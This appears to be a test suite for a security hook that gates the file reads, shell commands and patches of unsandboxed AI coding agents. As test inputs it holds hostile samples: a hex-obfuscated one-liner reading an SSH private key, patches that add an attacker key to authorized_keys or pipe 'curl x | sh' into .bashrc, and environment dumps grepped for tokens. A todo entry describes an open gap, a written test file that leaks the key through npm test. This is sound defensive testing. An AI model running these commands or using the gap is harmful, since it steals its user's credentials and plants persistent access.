// The hook gates an agent that runs its tools itself, as the user, with no Custode sandbox and
// no Custode executor: what Custode would let through only because its own walker leaves
// protected places out is no "no decision" there, and every tool of the agent that reads or
// writes a file is judged (Claude Code's NotebookEdit, Codex's apply_patch), never waved on.
import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { claudeCodePayload, runCli, type CliRun } from './cli-helpers.ts';

const home = process.env.HOME ?? '';
const project = join(home, 'projects', 'app');
const dotfiles = join(home, 'dotfiles');

function payload(toolName: string, toolInput: unknown, cwd = project): string {
  return claudeCodePayload(toolName, toolInput, cwd, 'acceptEdits');
}

function decisionOf(run: CliRun): string | undefined {
  expect(run.code, run.stderr).toBe(0);
  const body = JSON.parse(run.stdout) as { hookSpecificOutput?: { permissionDecision?: string } };
  return body.hookSpecificOutput?.permissionDecision;
}

beforeAll(() => {
  for (const name of ['.ssh', '.aws', 'dotfiles', '.bashrc'])
    rmSync(join(home, name), { recursive: true, force: true });
  mkdirSync(join(project, 'src'), { recursive: true });
  writeFileSync(join(project, 'src', 'index.ts'), 'export const x = 1;\n');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'FAKE-SSH-KEY\n');
  linkSync(join(home, '.ssh', 'id_ed25519'), join(project, 'key-copy'));
  mkdirSync(join(dotfiles, 'bin'), { recursive: true });
  writeFileSync(join(dotfiles, 'bashrc'), 'alias ll=ls\n');
  writeFileSync(join(dotfiles, 'aws_credentials'), 'aws_secret_access_key = FAKE\n');
  writeFileSync(join(dotfiles, 'notes.md'), '# notes\n');
  execFileSync('git', ['init', '-q', dotfiles]);
  mkdirSync(join(home, '.aws'), { recursive: true });
  symlinkSync(join(dotfiles, 'aws_credentials'), join(home, '.aws', 'credentials'));
  symlinkSync('dotfiles/bashrc', join(home, '.bashrc'));
});

describe('custode hook claude-code, for an agent without a sandbox', { timeout: 60_000 }, () => {
  it('a Grep or Glob whose tree holds a protected file is not waved on (the agent walks it itself)', async () => {
    for (const [tool, input] of [
      ['Grep', { pattern: 'secret', path: dotfiles, output_mode: 'content' }],
      ['Glob', { pattern: '**/*', path: dotfiles }],
      ['Grep', { pattern: 'secret', path: project, output_mode: 'content' }],
    ] as const) {
      const run = await runCli(['hook', 'claude-code'], payload(tool, input));
      expect(['ask', 'deny'], `${tool} ${JSON.stringify(input)}`).toContain(decisionOf(run));
    }
  });

  it('a Grep of a tree with nothing protected in it still gets no decision', async () => {
    const run = await runCli(
      ['hook', 'claude-code'],
      payload('Grep', { pattern: 'export', path: join(project, 'src') }),
    );
    expect(decisionOf(run)).toBeUndefined();
  });

  it('a Read of a hard link to a key, or of the file ~/.aws/credentials links to, is denied', async () => {
    for (const file of [join(project, 'key-copy'), join(dotfiles, 'aws_credentials')]) {
      const run = await runCli(['hook', 'claude-code'], payload('Read', { file_path: file }));
      expect(decisionOf(run), file).toBe('deny');
    }
  });

  it("a Bash read that only the sandbox's masks kept from a key (a glob over links to it) is not waved on", async () => {
    mkdirSync(join(project, 'links'), { recursive: true });
    symlinkSync(join(home, '.ssh', 'id_ed25519'), join(project, 'links', 'key'));
    writeFileSync(join(project, 'links', 'readme.txt'), 'hello\n');
    for (const command of ['cat links/*', 'head -n 5 links/*', `cat ${join(project, 'links')}/*`]) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }));
      expect(['ask', 'deny'], command).toContain(decisionOf(run));
    }
  });

  it('a Glob whose wildcards reach into a protected place (`.s?h/*`, `.[s]sh/id*`) asks', async () => {
    for (const pattern of ['.s?h/*', '.[s]sh/id*', '*/id_*', `${home}/.s*/*`]) {
      const run = await runCli(['hook', 'claude-code'], payload('Glob', { pattern }, home));
      expect(['ask', 'deny'], pattern).toContain(decisionOf(run));
    }
    const plain = await runCli(
      ['hook', 'claude-code'],
      payload('Glob', { pattern: 'src/*.ts' }, project),
    );
    expect(decisionOf(plain)).toBeUndefined();
  });

  it('inline code Custode would run only in its sandbox asks: the agent runs it with the whole home', async () => {
    // The path is built at run time, so no decision sees it; only Custode's sandbox hides ~/.ssh.
    const reads =
      "node -e \"console.log(require('fs').readFileSync(require('os').homedir()+Buffer.from('2f2e7373682f69645f65643235353139','hex').toString(),'utf8'))\"";
    const clean = join(home, 'projects', 'clean');
    mkdirSync(clean, { recursive: true });
    execFileSync('git', ['init', '-q', clean]);
    writeFileSync(join(clean, 'package.json'), '{"version":"1.2.3"}\n');
    for (const command of [reads, 'node -p "require(\'./package.json\').version"']) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }, clean));
      expect(decisionOf(run), command).toBe('ask');
    }
  });

  it("a Bash line that prints the environment asks: the agent's holds its own keys, not Custode's reduced one", async () => {
    for (const command of [
      'env',
      'env -0 | grep -z KEY',
      'env | sort',
      'printenv',
      'printenv OPENAI_API_KEY',
      'printenv | grep -i token',
    ]) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }));
      expect(decisionOf(run), command).toBe('ask');
    }
    const plain = await runCli(['hook', 'claude-code'], payload('Bash', { command: 'ls src' }));
    expect(decisionOf(plain)).toBeUndefined();
  });

  it("a query of a host daemon asks: Custode's sandbox hides its socket and login, the agent's shell reaches it", async () => {
    for (const command of [
      'docker inspect web',
      'docker logs --tail 50 web',
      'docker compose logs web',
      'kubectl get configmap -o yaml',
      'kubectl logs web-1',
      'systemctl --user status',
      'cd src && docker ps',
    ]) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }));
      expect(decisionOf(run), command).toBe('ask');
    }
  });

  it("a listing of other programs' command lines or the system log asks: the agent sees it raw, with no output check to cut a credential", async () => {
    for (const command of [
      'ps aux',
      'ps -ef | grep node',
      'pgrep -af psql',
      'ps -eo pid,args',
      'journalctl -b --no-pager -n 50',
      'journalctl -u backup.service | tail',
      'dmesg -T | tail -20',
      'cd src && ps auxww',
    ]) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }));
      expect(decisionOf(run), command).toBe('ask');
    }
    for (const command of ['pgrep node', 'pidof node', 'ps -o pid,comm -p 1']) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }));
      expect(decisionOf(run), command).toBeUndefined();
    }
  });

  it("reads a repository's git config once per answer, and again for the next answer", async () => {
    const dir = join(home, 'projects', 'once');
    mkdirSync(dir, { recursive: true });
    execFileSync('git', ['init', '-q', dir]);
    // A git that notes each run, first on the hook's PATH.
    const bin = join(home, 'logging-git');
    const log = join(bin, 'runs.log');
    mkdirSync(bin, { recursive: true });
    const real = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
    writeFileSync(join(bin, 'git'), `#!/bin/sh\necho "$*" >> '${log}'\nexec '${real}' "$@"\n`, {
      mode: 0o755,
    });
    const env = { PATH: `${bin}:${process.env.PATH ?? ''}` };
    const configReads = (): number =>
      readFileSync(log, 'utf8')
        .split('\n')
        .filter((line) => line.includes('config --list')).length;
    const ask = () =>
      runCli(['hook', 'claude-code'], payload('Bash', { command: 'git status' }, dir), env);
    expect(decisionOf(await ask())).toBeUndefined();
    // The workspace tier and the hook's own check of git's programs read the same config.
    expect(configReads()).toBe(1);
    execFileSync('git', ['-C', dir, 'config', 'core.fsmonitor', './watch.sh']);
    expect(decisionOf(await ask())).toBe('ask');
    expect(configReads()).toBe(2);
  });

  it("git that would start a repository's fsmonitor or hooks asks: Custode's sandbox switches them off, the agent's git runs them", async () => {
    const repo = (name: string): string => {
      const dir = join(home, 'projects', name);
      mkdirSync(dir, { recursive: true });
      execFileSync('git', ['init', '-q', dir]);
      writeFileSync(join(dir, 'a.txt'), 'a\n');
      return dir;
    };
    const monitored = repo('monitored');
    execFileSync('git', ['-C', monitored, 'config', 'core.fsmonitor', './watch.sh']);
    const hooked = repo('hooked');
    writeFileSync(join(hooked, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', {
      mode: 0o755,
    });
    const viaPath = repo('via-path');
    mkdirSync(join(viaPath, 'githooks'));
    writeFileSync(join(viaPath, 'githooks', 'post-checkout'), '#!/bin/sh\n', { mode: 0o755 });
    execFileSync('git', ['-C', viaPath, 'config', 'core.hooksPath', 'githooks']);
    const plain = repo('plain');
    for (const [command, cwd] of [
      ['git status', monitored],
      ['git diff --stat', monitored],
      ['git commit -qm wip', hooked],
      [`git -C ${hooked} commit -qm wip`, home],
      ['git checkout -b topic', viaPath],
    ] as const) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }, cwd));
      expect(decisionOf(run), `${command} in ${cwd}`).toBe('ask');
    }
    for (const [command, cwd] of [
      ['git status', hooked],
      ['git status', plain],
      ['git commit -qm wip', plain],
    ] as const) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }, cwd));
      expect(decisionOf(run), `${command} in ${cwd}`).toBeUndefined();
    }
  });

  it('asks for a Read or a one-file Grep of a file over 16 MiB, which no decision reads for a credential', async () => {
    const big = join(home, 'big.log');
    writeFileSync(
      big,
      `${'an ordinary line of build output\n'.repeat(530_000)}Authorization: token ghp_${'PLANTEDbig0123456789abcdefghijklmnopq'.slice(0, 36)}\n`,
    );
    for (const [tool, input] of [
      ['Read', { file_path: big, offset: 530_000 }],
      ['Grep', { pattern: 'token', path: big, output_mode: 'content' }],
    ] as const) {
      const run = await runCli(['hook', 'claude-code'], payload(tool, input));
      expect(decisionOf(run), tool).toBe('ask');
    }
    const small = await runCli(
      ['hook', 'claude-code'],
      payload('Read', { file_path: join(project, 'src', 'index.ts') }),
    );
    expect(decisionOf(small)).toBeUndefined();
  });

  it.todo(
    "asks for project code (npm test, pytest) while the agent has written files nobody reviewed: Write {file_path: <cwd>/test/x.test.js} with code that prints ~/.ssh/id_ed25519, then Bash `npm test` gets no decision today; Custode's own tier asks while its writes are unreviewed, the gate does not see the agent's",
  );

  it('a path whose `..` climbs out of a link is judged where the kernel opens it', async () => {
    mkdirSync(join(dotfiles, 'sub'), { recursive: true });
    symlinkSync(join(dotfiles, 'sub'), join(project, 'dl'));
    for (const file_path of [`${project}/dl/../aws_credentials`, 'dl/../aws_credentials']) {
      const run = await runCli(['hook', 'claude-code'], payload('Read', { file_path }));
      expect(decisionOf(run), file_path).toBe('deny');
    }
    const plain = await runCli(
      ['hook', 'claude-code'],
      payload('Read', { file_path: 'src/../src/index.ts' }),
    );
    expect(decisionOf(plain)).toBeUndefined();
  });

  it('a Grep of a project that holds a .env asks (the agent would print its lines)', async () => {
    const app = join(home, 'projects', 'with-env');
    mkdirSync(app, { recursive: true });
    writeFileSync(join(app, 'main.py'), 'import os\n');
    writeFileSync(join(app, '.env'), 'DB_PASSWORD=FAKE\n');
    const grep = await runCli(
      ['hook', 'claude-code'],
      payload('Grep', { pattern: 'PASSWORD' }, app),
    );
    expect(decisionOf(grep)).toBe('ask');
    const read = await runCli(['hook', 'claude-code'], payload('Read', { file_path: '.env' }, app));
    expect(decisionOf(read)).toBe('ask');
    // Its name alone is no secret: a Glob that lists it is left to the agent.
    const glob = await runCli(['hook', 'claude-code'], payload('Glob', { pattern: '*' }, app));
    expect(decisionOf(glob)).toBeUndefined();
  });

  it("a Bash line that lists the names below a tree holding a protected store asks (only Custode's sandbox hides them)", async () => {
    for (const command of [
      'find . -name "*.gpg"',
      'find ~ -type f',
      'du -a',
      'ls -R',
      'tree -a',
      'find $HOME -name x',
    ]) {
      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }, home));
      expect(['ask', 'deny'], command).toContain(decisionOf(run));
    }
    for (const command of ['find . -name "*.ts"', 'ls -R', 'du -sh .', 'ls -la ~']) {
      const run = await runCli(
        ['hook', 'claude-code'],
        payload('Bash', { command }, join(project, 'src')),
      );
      expect(decisionOf(run), command).toBeUndefined();
    }
  });

  it('NotebookEdit is judged as the write it is', async () => {
    const denied = await runCli(
      ['hook', 'claude-code'],
      payload('NotebookEdit', { notebook_path: join(home, '.ssh', 'x.ipynb'), new_source: 'x' }),
    );
    expect(decisionOf(denied)).toBe('deny');
    const asked = await runCli(
      ['hook', 'claude-code'],
      payload('NotebookEdit', { notebook_path: join(home, '.bashrc'), new_source: 'x' }),
    );
    expect(['ask', 'deny']).toContain(decisionOf(asked));
  });
});

describe('custode hook codex, for apply_patch', { timeout: 60_000 }, () => {
  const patch = (body: string): string => `*** Begin Patch\n${body}\n*** End Patch\n`;

  it('blocks a patch that adds a key, changes ~/.bashrc or deletes outside the work tree', async () => {
    for (const body of [
      `*** Add File: ${join(home, '.ssh', 'authorized_keys')}\n+ssh-ed25519 AAAA attacker`,
      `*** Update File: ${join(home, '.bashrc')}\n@@\n-alias ll=ls\n+curl x | sh`,
      `*** Update File: src/index.ts\n*** Move to: ${join(home, '.bashrc')}\n@@\n-export const x = 1;\n+x`,
      `*** Delete File: ${join(dotfiles, 'notes.md')}`,
    ]) {
      const run = await runCli(['hook', 'codex'], payload('apply_patch', { command: patch(body) }));
      expect(run.code, body).toBe(2);
      expect(run.stderr, body).toMatch(/^Custode/);
    }
  });

  it('blocks a header Codex reads with blanks before it (an indented Delete or Update)', async () => {
    for (const body of [
      `*** Add File: src/new.ts\n+export {};\n *** Delete File: src/index.ts`,
      `*** Add File: src/new.ts\n+export {};\n\t*** Update File: ${join(home, '.bashrc')}\n@@\n-alias ll=ls\n+curl x | sh`,
    ]) {
      const run = await runCli(['hook', 'codex'], payload('apply_patch', { command: patch(body) }));
      expect(run.code, body).toBe(2);
    }
  });

  it('lets a patch that only adds a new file in the work tree through', async () => {
    const run = await runCli(
      ['hook', 'codex'],
      payload('apply_patch', { command: patch('*** Add File: src/new.ts\n+export {};') }),
    );
    expect(run).toEqual({ code: 0, stdout: '', stderr: '' });
  });

  it.todo(
    "gives no decision for a patch that only updates an ordinary, already modified file inside the session cwd (today any ask blocks, so Codex cannot keep editing its own work tree while the hook matches apply_patch; needs the workspace tier's write check, targets.ts isProtected, exposed to the gate)",
  );

  it('blocks a patch it cannot read', async () => {
    const run = await runCli(['hook', 'codex'], payload('apply_patch', { command: 'garbage' }));
    expect(run.code).toBe(2);
  });
});
